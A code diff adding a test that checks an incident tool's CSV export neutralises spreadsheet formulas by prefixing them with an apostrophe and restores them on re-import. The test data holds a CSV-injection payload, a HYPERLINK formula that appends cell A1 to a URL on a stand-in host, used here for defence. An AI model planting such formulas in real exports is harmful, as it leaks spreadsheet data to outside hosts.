@@ -184,3 +184,35 @@ def test_exports_read_back_and_import_again(env: Env, base: Base, register: str,
     again = env.run("incidents", "import", str(exported), "--project", "copy", check=False)
     assert again.stdout.splitlines()[0].startswith("line 2: no clip")
     assert "1 incident(s) would be imported" in again.stdout
+
+
+def test_csv_text_never_opens_as_a_formula_and_reads_back_as_typed(
+    env: Env, base: Base, register: str, tmp_path: Path
+) -> None:
+    title = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    place = "@SUM(1+1)"
+    description = "-2 since the morning: a note that starts with a minus"
+    source = tmp_path / "in.csv"
+    source.write_text(
+        _csv([{**GOOD, "title": title, "place": place, "description": description}]),
+        encoding="utf-8",
+    )
+    env.run("incidents", "import", str(source), "--project", "film", "--commit")
+
+    text = env.run("incidents", "export", "--project", "film").stdout
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["title"] == "'" + title and row["place"] == "'" + place
+    assert row["description"] == "'" + description
+    assert row["latitude"] == "36.2" and row["killed"] == "5"  # numbers stay numbers
+
+    exported = tmp_path / "film.csv"
+    exported.write_text(text, encoding="utf-8")
+    with base.catalog.write() as session:
+        tester = session.scalar(select(User).where(User.username == "tester"))
+        copy = session.scalar(select(Project).where(Project.slug == "copy"))
+        accounts.add_member(session, copy, tester, Role.DIRECTOR)
+    env.run("incidents", "import", str(exported), "--project", "copy", "--commit")
+    with base.catalog.read() as session:
+        copied = session.scalar(select(Incident).join(Project).where(Project.slug == "copy"))
+        assert copied is not None
+        assert (copied.title, copied.place, copied.description) == (title, place, description)
